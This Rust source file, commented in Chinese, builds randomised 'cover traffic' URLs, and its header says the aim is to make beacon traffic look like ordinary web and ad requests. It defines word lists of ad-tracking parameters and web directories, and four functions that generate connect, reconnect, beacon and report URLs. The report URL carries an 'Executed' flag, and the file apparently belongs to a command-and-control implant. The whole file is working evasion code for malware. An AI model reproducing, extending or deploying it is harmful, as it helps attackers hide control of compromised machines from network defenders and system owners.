// 掩护流量 URL 构造
//
// 四类端点的 URL 模板，路径片段从固定词表中均匀抽取，
// 让 beacon 流量看起来像普通的 Web/广告请求。

use rand::Rng;
use uuid::Uuid;

/// 广告跟踪参数词表
const AD_DOWNLOAD_URL_PARAMS: &[&str] = &[
    "ad_id",
    "ad_group",
    "ad_campaign",
    "ad_creative",
    "ad_position",
    "ad_placement",
    "ad_network",
    "ad_click_id",
    "gcladid",
    "fbclidad",
    "ad_format",
    "ad_size",
    "ad_type",
    "ad_language",
    "ad_region",
    "ad_device",
    "ad_os",
    "ad_sdk_version",
    "ad_tracking_enabled",
    "ad_viewability",
    "ad_click_through_rate",
    "ad_impression",
    "ad_conversion",
    "ad_revenue",
    "ad_targeting",
    "ad_audience",
    "ad_frequency",
    "ad_budget",
    "ad_spend",
    "ad_performance",
    "ad_engagement",
    "ad_clicks",
    "ad_impressions",
    "ad_view_count",
    "ad_view_time",
    "ad_clicks_per_impression",
    "ad_conversion_rate",
    "ad_cost_per_click",
    "ad_cost_per_impression",
];

/// 常见 Web 目录词表
const WEB_DIRECTORIES: &[&str] = &[
    "about",
    "about-us",
    "account",
    "admin",
    "ads",
    "api",
    "app",
    "archive",
    "assets",
    "auth",
    "backup",
    "blog",
    "booking",
    "browse",
    "build",
    "cache",
    "calendar",
    "cart",
    "catalog",
    "category",
    "cgi-bin",
    "checkout",
    "client",
    "comments",
    "community",
    "config",
    "contact",
    "control-panel",
    "css",
    "dashboard",
    "data",
    "db",
    "debug",
    "default",
    "demo",
    "deploy",
    "dev",
    "docs",
    "download",
    "edit",
    "error",
    "events",
    "example",
    "examples",
    "export",
    "extensions",
    "faq",
    "features",
    "feed",
    "files",
    "forum",
    "gallery",
    "graphics",
    "guestbook",
    "help",
    "history",
    "home",
    "icons",
    "images",
    "img",
    "import",
    "includes",
    "info",
    "install",
    "inventory",
    "invoices",
    "js",
    "json",
    "lang",
    "language",
    "layout",
    "lib",
    "license",
    "links",
    "list",
    "live",
    "local",
    "locale",
    "login",
    "logout",
    "logs",
    "mail",
    "manage",
    "map",
    "media",
    "members",
    "messages",
    "mobile",
    "modules",
    "news",
    "notes",
    "notifications",
    "offline",
    "order",
    "orders",
    "pages",
    "partners",
    "password",
    "pay",
    "payment",
    "photos",
    "plugins",
    "policy",
    "portal",
    "portfolio",
    "posts",
    "preferences",
    "pricing",
    "privacy",
    "profile",
    "projects",
    "public",
    "purchase",
    "queries",
    "query",
    "ratings",
    "register",
    "reports",
    "resources",
    "reviews",
    "rss",
    "sales",
    "scripts",
    "search",
    "secure",
    "security",
    "server",
    "services",
    "settings",
    "shop",
    "signin",
    "signup",
    "site",
    "sitemap",
    "src",
    "static",
    "stats",
    "status",
    "store",
    "style",
    "styles",
    "support",
    "survey",
    "sync",
    "system",
    "tags",
    "tasks",
    "team",
    "terms",
    "test",
    "theme",
    "themes",
    "tmp",
    "tools",
    "tracking",
    "training",
    "translations",
    "uploads",
    "user",
    "users",
    "util",
    "utilities",
    "vendor",
    "videos",
    "web",
    "webhooks",
    "widgets",
    "wiki",
    "work",
    "xml",
    "yaml",
    "zip",
    "zips",
    "content",
];

fn random_element(list: &'static [&'static str]) -> &'static str {
    // 词表是编译期常量，不可能为空
    let idx = rand::thread_rng().gen_range(0..list.len());
    list[idx]
}

fn random_version() -> u32 {
    rand::thread_rng().gen_range(1..=10)
}

/// Connect 端点：`{base}/{dir}/{dir}/{ad_param}/api/v{N}?user={uuid}`
pub fn connection_url(base: &str) -> String {
    let part1 = random_element(WEB_DIRECTORIES);
    let part2 = random_element(WEB_DIRECTORIES);
    let ad_param = random_element(AD_DOWNLOAD_URL_PARAMS);
    format!(
        "{}/{}/{}/{}/api/v{}?user={}",
        base,
        part1,
        part2,
        ad_param,
        random_version(),
        Uuid::new_v4()
    )
}

/// Reconnect 端点：`{base}/{dir}/{ad_param}/getLatest?token={uuid}`
pub fn reconnect_url(base: &str) -> String {
    let part1 = random_element(WEB_DIRECTORIES);
    let ad_param = random_element(AD_DOWNLOAD_URL_PARAMS);
    format!(
        "{}/{}/{}/getLatest?token={}",
        base,
        part1,
        ad_param,
        Uuid::new_v4()
    )
}

/// Beacon 端点：`{base}/checkUpdates/{dir}/{dir}?session={id}&v={N}`
pub fn beacon_url(base: &str, client_id: &str) -> String {
    let part1 = random_element(WEB_DIRECTORIES);
    let part2 = random_element(WEB_DIRECTORIES);
    format!(
        "{}/checkUpdates/{}/{}?session={}&v={}",
        base,
        part1,
        part2,
        client_id,
        random_version()
    )
}

/// Report 端点：`{base}/updateReport/{dir}/api/v{N}?Executed={bool}&responseID={uuid}`
pub fn report_url(base: &str) -> String {
    let part1 = random_element(WEB_DIRECTORIES);
    let executed: bool = rand::thread_rng().gen();
    format!(
        "{}/updateReport/{}/api/v{}?Executed={}&responseID={}",
        base,
        part1,
        random_version(),
        executed,
        Uuid::new_v4()
    )
}
